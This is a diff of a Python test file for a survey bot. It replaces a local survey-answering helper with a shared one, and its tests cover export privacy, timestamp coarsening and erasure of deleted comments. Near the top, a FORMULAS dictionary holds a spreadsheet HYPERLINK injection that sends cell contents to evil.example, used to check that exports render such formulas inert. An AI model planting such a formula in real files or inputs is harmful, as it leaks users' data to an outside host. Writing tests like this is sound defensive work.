@@ -26,8 +26,8 @@ from tests.conftest import (
     stop_application,
     table_rows,
 )
-from tests.harness import BotHarness, Clock, User
-from tests.test_unlinking import lookups, rows_with
+from tests.harness import BotHarness, Clock
+from tests.test_unlinking import complete_survey, lookups, rows_with
 
 FORMULAS = {
     "city_name": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
@@ -92,28 +92,14 @@ async def test_no_stored_value_pairs_with_a_configured_researcher_id(
     assert rows["researcher_settings"][0][0] != privacy.pseudonym(TEST_KEY, RESEARCHER_ID)
 
 
-async def _answer_with(user: User, harness: BotHarness, city: str, comment: str) -> None:
-    _ = harness.services.i18n.translator("ru")
-    await user.send("/start")
-    await user.press(_("I agree"))
-    await user.send("29")
-    await user.press(_("Female"))
-    await user.press(_("Another city"))
-    await user.send(city)
-    await user.press(_("I don't follow the news"))
-    await user.press(_("Done"))
-    await user.press(_("I don't take sides, I want peace"))
-    await user.press(_("It is the right course"))
-    await user.press(_("Prefer not to answer"))
-    await user.send(comment)
-
-
 async def test_exports_coarsen_times_and_make_formulas_inert(
     harness: BotHarness, database_url: str, tmp_path: Path
 ) -> None:
     """Times are UTC days; a typed formula is text in CSV and XLSX, and stays as typed in .sav."""
     harness.clock.now = harness.clock.now.replace(hour=13, minute=47, second=31, microsecond=654321)
-    await _answer_with(harness.user(language_code="ru"), harness, FORMULAS["city_name"], FORMULAS["comment"])
+    await complete_survey(
+        harness, harness.user(language_code="ru"), FORMULAS["city_name"], FORMULAS["comment"]
+    )
     settings = make_settings(database_url)
     for file_format in ("csv", "xlsx", "sav"):
         await export_dataset(settings, file_format, tmp_path / f"data.{file_format}", "ru")
@@ -140,14 +126,14 @@ async def test_exports_coarsen_times_and_make_formulas_inert(
 async def test_answer_times_are_stored_to_the_second(harness: BotHarness, engine: AsyncEngine) -> None:
     """answered_at holds no microseconds (paradata needs no more, and less matches less)."""
     harness.clock.now = harness.clock.now.replace(microsecond=654321)
-    await _answer_with(harness.user(language_code="ru"), harness, "Талдықорған", "—")
+    await complete_survey(harness, harness.user(language_code="ru"), "Талдықорған", "—")
     answered = [row[-1] for row in (await table_rows(engine))["answers"]]
     assert answered and all(moment.microsecond == 0 for moment in answered)
 
 
 async def test_export_in_chat_leaves_free_text_out_unless_full(harness: BotHarness) -> None:
     """/export omits typed city names and comments; /export full includes them."""
-    await _answer_with(harness.user(language_code="ru"), harness, "Жезқазған", "Менің ойым")
+    await complete_survey(harness, harness.user(language_code="ru"), "Жезқазған", "Менің ойым")
     researcher = harness.user(user_id=RESEARCHER_ID, language_code="ru")
     headers = {}
     for command in ("/export", "/export full"):
@@ -180,7 +166,7 @@ async def test_an_erased_comment_is_gone_from_the_sqlite_files(
     """After /delete neither the database file nor its WAL holds the comment's bytes."""
     secret = "Менің құпия пікірім: 0x5EC2E7-ERASE-ME"
     user = harness.user(language_code="ru")
-    await _answer_with(user, harness, "Сарыағаш", secret)
+    await complete_survey(harness, user, "Сарыағаш", secret)
     database = Path(database_url.removeprefix("sqlite+aiosqlite:///"))
     files = [database, database.with_name(database.name + "-wal")]
     assert any(secret.encode() in path.read_bytes() for path in files if path.exists())
